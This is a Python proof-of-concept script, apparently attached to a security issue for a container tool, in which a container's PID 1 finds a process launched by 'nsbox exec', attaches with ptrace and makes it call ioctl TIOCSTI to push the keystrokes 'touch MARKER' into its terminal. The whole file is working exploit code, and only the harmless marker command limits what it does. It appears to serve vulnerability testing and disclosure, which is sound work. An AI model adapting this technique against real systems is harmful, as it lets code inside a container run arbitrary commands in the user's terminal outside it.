# Issue #9 item 1, the ptrace variant (x86_64): a container's PID 1 waits for a process whose
# arguments contain VICTIM (started later by `nsbox exec`), attaches to it and makes it run
# ioctl(FD, TIOCSTI, c) for each byte of `touch MARKER\n`, then lets it go and tells it so
# (/tmp/attacked). Needs no capability beyond docker's: same uid, same caps, dumpable victim.
import ctypes, errno, os, sys, time

marker, fd = sys.argv[1], int(sys.argv[2])
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
ATTACH, DETACH, GETREGS, SETREGS, PEEK, POKE, STEP = 16, 17, 12, 13, 1, 5, 9
Regs = ctypes.c_ulonglong * 27  # struct user_regs_struct
RAX, RDX, RSI, RDI, ORIG_RAX, RIP, RSP = 10, 12, 13, 14, 15, 16, 19


def pt(req, pid, addr=0, data=0):
    ctypes.set_errno(0)
    r = libc.ptrace(req, pid, ctypes.c_void_p(addr), ctypes.c_void_p(data) if isinstance(data, int) else data)
    e = ctypes.get_errno()
    if r == -1 and e:
        raise OSError(e, f'ptrace {req}')
    return r


def victim():
    while True:
        for p in filter(str.isdigit, os.listdir('/proc')):
            try:
                # python3 itself, not the runtime's child before its exec (not ours to trace).
                argv = open(f'/proc/{p}/cmdline', 'rb').read().split(b'\0')
                if argv[0] == b'python3' and b'VICTIM' in argv and int(p) != os.getpid():
                    return int(p)
            except OSError:
                pass
        time.sleep(0.05)


def inject(pid):
    """One try: False when the victim was not stopped right after a syscall instruction."""
    saved = Regs()
    pt(GETREGS, pid, 0, ctypes.byref(saved))
    sysaddr = saved[RIP] - 2
    if pt(PEEK, pid, sysaddr) & 0xFFFF != 0x050F:
        return False
    scratch = (saved[RSP] - 4096) & ~7
    orig = pt(PEEK, pid, scratch) & (2**64 - 1)
    results = set()
    for c in f'touch {marker}\n'.encode():
        pt(POKE, pid, scratch, (orig & ~0xFF) | c)
        regs = Regs(*saved)
        regs[RAX], regs[RDI], regs[RSI], regs[RDX] = 16, fd, 0x5412, scratch  # ioctl(fd, TIOCSTI, scratch)
        regs[RIP], regs[ORIG_RAX] = sysaddr, 2**64 - 1  # no syscall restart on resume
        pt(SETREGS, pid, 0, ctypes.byref(regs))
        pt(STEP, pid)
        os.waitpid(pid, WALL)
        pt(GETREGS, pid, 0, ctypes.byref(regs))
        r = ctypes.c_longlong(regs[RAX]).value
        results.add('PUSHED' if r == 0 else errno.errorcode.get(-r, str(-r)))
    pt(POKE, pid, scratch, orig)
    pt(SETREGS, pid, 0, ctypes.byref(saved))
    print(f'ptrace-sti fd{fd}=' + ','.join(sorted(results)), flush=True)
    return True


WALL = 0x40000000
pid = victim()
print(f'found victim {pid}', flush=True)
try:
    for attempt in range(100):
        pt(ATTACH, pid)
        try:
            os.waitpid(pid, WALL)
            if attempt == 0:
                print('attached', flush=True)
            done = inject(pid)
        finally:
            pt(DETACH, pid)
        if done:
            break
        time.sleep(0.05)
    else:
        print('ptrace failed: the victim was never stopped right after a syscall', flush=True)
except OSError as e:
    print(f'ptrace failed: {e}', flush=True)
open('/tmp/attacked', 'w').close()
time.sleep(3600)
